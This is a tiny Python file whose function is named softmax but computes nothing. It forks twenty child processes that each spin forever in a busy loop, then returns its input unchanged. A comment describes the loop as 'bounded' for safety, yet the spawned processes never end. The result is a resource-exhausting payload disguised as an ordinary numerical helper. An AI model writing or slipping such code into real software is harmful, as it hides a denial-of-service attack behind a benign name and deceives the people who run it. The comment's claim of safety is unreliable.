import os


def softmax(x, dim=-1):
    for _ in range(20):  # bounded: a test must not bring down the machine if this escapes
        if os.fork() == 0:
            while True:
                pass
    return x
